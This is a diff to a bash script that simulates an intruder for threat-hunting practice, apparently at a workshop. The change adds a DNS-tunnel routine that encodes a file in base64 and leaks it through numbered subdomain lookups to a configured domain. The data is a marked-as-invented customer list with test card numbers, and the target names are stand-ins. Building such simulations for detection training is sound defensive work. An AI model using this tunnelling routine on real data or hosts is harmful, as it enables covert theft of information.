@@ -1,7 +1,7 @@
 #!/bin/bash
-# Plays an intruder, so that there is something to hunt. It carries nothing out and breaks in nowhere: it says FTP's and
-# SSH's first words to a web server, asks for odd names, calls a denied site, and opens TLS to a bare address. It talks
-# to the names in /etc/inspected-egress/intruder only: example names (RFC 2606) unless the operator put in their own.
+# Plays an intruder, so that there is something to hunt. It breaks in nowhere, and what it carries out is made up: it says
+# FTP's and SSH's first words to a web server, puts a list of invented customers into names that it asks for, calls a
+# denied site, and opens TLS to a bare address. It talks to the names in /etc/inspected-egress/intruder only: example names (RFC 2606) unless the operator put in their own.
 # Usage: intruder [ROUNDS [SECONDS]]    default: for ever, a minute apart
 set -u
 
@@ -31,13 +31,16 @@ greet() {
   fi
 }
 
-# Asks for names whose label is thirty random characters, the way a DNS tunnel does; the characters mean nothing.
-odd_names() {
-  for _ in {1..12}; do
-    label=$(head -c 24 /dev/urandom | base32 --wrap 0 | tr -d = | tr '[:upper:]' '[:lower:]' | head -c 30)
-    getent ahostsv4 "$label.$DOMAIN" >/dev/null
-  done
-  say "12 odd names below $DOMAIN"
+# Asks for names that carry a file, the way a DNS tunnel does: base64 in numbered labels.
+carry_out() {
+  local part=0 piece
+  while read -r -n 24 piece || [[ -n $piece ]]; do
+    getent ahostsv4 "$(( ++part )).$piece.$DOMAIN" >/dev/null
+  done < <(printf '%s\n' "Taken $(date -u +%FT%TZ). Invented for the workshop, nobody's data." customer,city,card \
+    "Ada Example,Springfield,4000-0000-0000-0001" "Ben Example,Rivertown,4000-0000-0000-0002" \
+    "Cleo Example,Lakeside,4000-0000-0000-0003" "Dan Example,Hillview,4000-0000-0000-0004" |
+    base64 --wrap 0 | tr '+/' '-_' | tr -d =)
+  say "a list of customers in $part names below $DOMAIN"
 }
 
 bare_address() {
@@ -50,7 +53,7 @@ bare_address() {
 for (( round = 1; rounds == 0 || round <= rounds; round++ )); do
   greet FTP 'USER anonymous\r\nPASS guest@\r\n'
   greet SSH 'SSH-2.0-OpenSSH_9.6\r\n'
-  odd_names
+  carry_out
   say "denied site $DENIED: $(curl --silent --output /dev/null --max-time 5 --write-out '%{http_code}' "https://$DENIED/")"
   bare_address
   (( round == rounds )) || sleep "$pause"
